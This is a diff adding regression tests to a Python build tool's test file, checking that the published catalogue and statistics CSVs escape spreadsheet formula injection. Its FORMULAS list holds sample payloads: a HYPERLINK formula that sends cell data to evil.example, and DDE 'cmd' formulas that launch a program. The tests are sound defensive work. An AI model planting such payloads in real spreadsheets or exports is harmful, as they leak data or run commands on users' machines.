@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import datetime as dt
 import hashlib
+import json
 import os
 import re
 from html.parser import HTMLParser
@@ -12,6 +13,8 @@ from pathlib import Path
 
 import pytest
 import yaml
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from build_tools.booklet import Size, booklet_halls, data_version, make_booklet, render_html
 from build_tools.cli import main as cli
@@ -21,6 +24,7 @@ from build_tools.model.audience import is_internal
 from build_tools.publish import build
 from build_tools.schema import BY_FOLDER
 from build_tools.settings import load_settings
+from build_tools.validate import validate_tree
 
 from .support import copy_project
 
@@ -398,3 +402,77 @@ def test_invisible_characters_in_imported_cells_are_named_at_their_cells(tmp_pat
     out, err = capsys.readouterr()
     assert f"{matters}:2:{name_col + 1}: 列“事项名称”：字段“name”的第 2 个字是看不见的控制字符 U+001B（ESC，转义）" in out, out
     assert "Traceback" not in out + err
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "=cmd|' /C calc'!A0", "+SUM(1,1)", "@SUM(1+1)", "-cmd|' /C calc'!A0"]
+
+
+def _plant_formulas(root: Path) -> None:
+    """A matter named like a formula, a department whose short name is one (the statistics list it), and a summary
+    that starts with an apostrophe, as ordinary text may."""
+    def edit(rel: str, key: str, value: str) -> None:
+        path = root / rel
+        text = path.read_text(encoding="utf-8")
+        path.write_text(re.sub(rf"(?m)^{key}: .*$", lambda _: f"{key}: {json.dumps(value, ensure_ascii=False)}", text, count=1), encoding="utf-8")
+
+    edit("matters/wanshui-zhengming.yaml", "name", FORMULAS[0])
+    edit("matters/wanshui-zhengming.yaml", "summary", "'引号开头，个人开具纳税记录。")
+    edit("departments/swj.yaml", "short_name", FORMULAS[2])
+
+
+def _csv_cells(data: bytes) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+
+
+def test_no_csv_the_build_publishes_holds_a_formula(tmp_path):
+    """Issue #20: formula-like text went unescaped into the public api/catalogue*.csv and stats/statistics.csv."""
+    root = copy_project(tmp_path / "p")
+    _plant_formulas(root)
+    assert validate_tree(root).ok
+    for audience, out in ((Audience.PUBLIC, root / "site"), (Audience.STAFF, root / "site-staff")):
+        build(root, audience, out)
+        files = {p.relative_to(out).as_posix(): _csv_cells(p.read_bytes()) for p in out.rglob("*.csv")}
+        assert {"api/catalogue.csv", "stats/statistics.csv"} <= set(files)
+        assert [(name, c) for name, cells in files.items() for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+        everything = [c for cells in files.values() for c in cells]
+        assert "'" + FORMULAS[0] in everything and "'" + FORMULAS[2] in everything and "''引号开头，个人开具纳税记录。" in everything
+
+
+def test_formulas_round_trip_through_csv_and_are_warned_about_at_import(tmp_path, capsys):
+    from build_tools.commands import import_data
+    from build_tools.export import export_files
+
+    from .test_import import empty_tree
+
+    root = copy_project(tmp_path / "p")
+    _plant_formulas(root)
+    first = export_files(view(load_catalogue(root), Audience.STAFF), load_settings(root))
+    folder = tmp_path / "csv"
+    folder.mkdir()
+    for name, data in first.items():
+        if name.endswith(".csv"):
+            (folder / Path(name).name).write_bytes(data)
+    target = empty_tree(tmp_path / "t", root)
+    parser = __import__("argparse").ArgumentParser()
+    import_data.add_arguments(parser)
+    assert import_data.run(parser.parse_args([str(folder / "catalogue.csv"), "--root", str(target)])) == 0
+    out = capsys.readouterr().out
+    assert any(line.startswith(f"{folder / 'catalogue.csv'}:") and "警告" in line and "像电子表格公式" in line for line in out.splitlines()), out
+    assert load_catalogue(target).matters == load_catalogue(root).matters
+    again = export_files(view(load_catalogue(target), Audience.STAFF), load_settings(target))
+    assert [name for name in first if name.endswith(".csv") and again[name] != first[name]] == []
+
+
+@given(st.text(max_size=30))
+@example("=1+1")
+@example("'=1+1")
+@example("''")
+@example("+86 10 0000 0000")
+def test_a_csv_cell_reads_back_as_the_text_it_was_written_from(text):
+    from build_tools.files import FORMULA_START, csv_cell, csv_value
+
+    cell = csv_cell(text)
+    assert csv_value(cell) == text and not cell.startswith(FORMULA_START)
